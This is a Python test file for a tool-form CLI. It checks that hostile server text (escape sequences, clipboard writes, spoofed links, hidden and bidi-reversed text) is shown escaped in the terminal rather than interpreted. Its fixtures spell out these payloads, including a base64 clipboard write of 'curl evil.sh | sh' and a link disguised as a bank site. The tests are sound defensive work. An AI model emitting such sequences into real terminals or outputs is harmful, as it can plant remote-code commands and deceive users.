"""A hostile server's text reaches the terminal shown, never interpreted.

``elicitkit try`` runs in a real pseudo-terminal against tests/servers/hostile_text.py, which
puts clear-screen, OSC 52 (clipboard), OSC 0 (title), OSC 8 (link), hidden-text SGR, a C1
CSI, a bidi override and a carriage return in every string it sends: tool description,
argument title and default, form message, field titles, descriptions, defaults, option
labels and values, tool result and error text. The bytes the terminal receives must hold
none of those sequences (only the program's own cursor and colour sequences), and each
string must be there in its visible form.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pexpect
import pytest

from elicitkit.cli.demo import _scripted, _show_and_answer
from elicitkit.cli.shown_text import shown
from tests.servers.hostile_text import EVIL, SEQUENCES, hostile

REPO = Path(__file__).resolve().parent.parent
SERVER = "tests/servers/hostile_text.py"
TIMEOUT = 30
ENTER = b"\r"
# The sequences prompt_toolkit itself writes (modes, cursor moves, erase-down, colours).
PROGRAM = re.compile(rb"\x1b\[(?:\?\d+[hl]|\d*[ABCD]|J|[0-9;]*m)")
# Each server sequence, as it must never reach the terminal. (The program's colour
# sequences match [0-9;]*m above, so the hidden-text one is looked for by itself.)
RAW = [
    b"\x1b[2J",
    b"\x1b[H",
    b"\x1b]",
    b"\x1b\\",
    b"\x1b[8m",
    "\x9b".encode(),
    "\u202e".encode(),
    "\u202c".encode(),
    b"\x07",
    b"\rOK",
]


@pytest.fixture
def spawn(starts_processes: None) -> Iterator[list[pexpect.spawn]]:
    children: list[pexpect.spawn] = []
    yield children
    for child in children:
        if child.isalive():
            child.terminate(force=True)


def start(children: list[pexpect.spawn], *args: str) -> pexpect.spawn:
    env = {**os.environ, "TERM": "xterm", "PROMPT_TOOLKIT_NO_CPR": "1"}
    child = pexpect.spawn(
        sys.executable,
        ["-m", "elicitkit", "try", SERVER, *args],
        cwd=str(REPO),
        env=env,
        timeout=TIMEOUT,
        # Wide enough that prompt_toolkit never wraps a hostile line (about 700 characters
        # once shown), so each string is found whole.
        dimensions=(50, 1500),
    )
    child.logfile_read = io.BytesIO()  # the raw bytes, exactly as the terminal got them
    children.append(child)
    return child


def finish(child: pexpect.spawn) -> tuple[bytes, int]:
    child.expect(pexpect.EOF)
    child.close()
    transcript = child.logfile_read
    assert isinstance(transcript, io.BytesIO)
    assert child.exitstatus is not None, f"killed by signal {child.signalstatus}"
    return transcript.getvalue(), child.exitstatus


def assert_only_text(raw: bytes, *shown_strings: str) -> None:
    """No server sequence in ``raw``; each of ``shown_strings`` visible in it."""
    for sequence in RAW:
        assert sequence not in raw, sequence
    assert b"\x1b" not in PROGRAM.sub(b"", raw)
    for what in shown_strings:
        assert shown(hostile(what)).encode() in raw, what


def test_shown_writes_every_control_out() -> None:
    assert shown(EVIL) == (
        "\\u001b[2J\\u001b[H"
        "\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007"
        "\\u001b]0;pwned\\u0007"
        "\\u001b]8;;https://evil.example\\u001b\\https://bank.example\\u001b]8;;\\u001b\\"
        "\\u001b[8m(transfer all funds)\\u001b[0m"
        "\\u009b2J"
        "\\u202e(sdnuf lla refsnart)\\u202c"
        "\\u000dOK"
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("two\nlines", "two\nlines", id="newline kept"),
        pytest.param("a\tb", "a\\u0009b", id="tab shown"),
        pytest.param("\x00\x7f", "\\u0000\\u007f", id="NUL and DEL"),
        pytest.param("\u2066x\u2069\u200f", "\\u2066x\\u2069\\u200f", id="isolates and marks"),
        pytest.param("\ud800", "\\ud800", id="lone surrogate"),
        pytest.param("Café 日本 ✓", "Café 日本 ✓", id="ordinary text untouched"),
    ],
)
def test_shown_cases(text: str, expected: str) -> None:
    assert shown(text) == expected


def test_try_lists_hostile_tools_as_text(spawn: list[pexpect.spawn]) -> None:
    raw, status = finish(start(spawn))
    assert status == 0
    assert_only_text(raw, "tool description")


def test_try_fills_a_hostile_form_as_text(spawn: list[pexpect.spawn]) -> None:
    child = start(spawn, "--tool", "approve", "--protocol", "2025-11-25")
    child.expect_exact(b"[argument title]")
    child.send(ENTER)  # the prefilled default, as shown
    child.expect_exact(b"fill in")
    child.send(b"y")
    child.expect_exact(b"[field title]")
    child.send(ENTER)
    child.expect_exact(b"[choice title]")
    child.send(b"1" + ENTER)  # the hostile option, picked by number
    raw, status = finish(child)
    assert status == 0
    assert_only_text(
        raw,
        "argument title",
        "argument default",
        "form message",
        "field title",
        "field description",
        "field default",
        "choice title",
        "option label",
        "option value",
        "tool result",
    )
    # The option picked is the server's own value; a prefilled default goes back as shown.
    assert b" accept hostile option [argument default]" in raw


def test_try_shows_a_hostile_error_as_text(spawn: list[pexpect.spawn]) -> None:
    raw, status = finish(start(spawn, "--tool", "fail", "--args", "{}"))
    assert status == 1
    assert_only_text(raw, "error text")
    assert b"<- error: " in raw


@pytest.mark.anyio
async def test_the_demo_prints_a_hostile_form_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    params = {
        "message": hostile("form message"),
        "requestedSchema": {
            "type": "object",
            "properties": {
                "name": {"type": "string", "title": hostile("field title")},
                "speed": {
                    "type": "string",
                    "oneOf": [{"const": "fast", "title": hostile("option label")}],
                },
            },
        },
    }
    await _show_and_answer(params, _scripted, show_schema=True)
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert all(value not in out for value in SEQUENCES.values())
    for what in ("form message", "field title", "option label"):
        assert shown(hostile(what)) in out


def test_schema_prints_c1_and_bidi_as_json_escapes(tmp_path: Path, starts_processes: None) -> None:
    module = tmp_path / "bidi_form.py"
    module.write_text(
        "import dataclasses\n"
        "from typing import Annotated\n"
        "from elicitkit import FormField\n"
        "@dataclasses.dataclass\n"
        "class Transfer:\n"
        "    ok: Annotated[bool, FormField(title='Approve\\u202e(sdnuf lla)\\x9b')]\n",
        encoding="utf-8",
    )
    printed = subprocess.run(
        [sys.executable, "-m", "elicitkit", "schema", f"{module}:Transfer"],
        capture_output=True,
        text=True,
        check=True,
        cwd=REPO,
    ).stdout
    assert "\u202e" not in printed
    assert "\x9b" not in printed
    assert "Approve\\u202e(sdnuf lla)\\u009b" in printed
    # Still JSON, with the title the form declared.
    title = json.loads(printed)["properties"]["ok"]["title"]
    assert title == "Approve\u202e(sdnuf lla)\x9b"
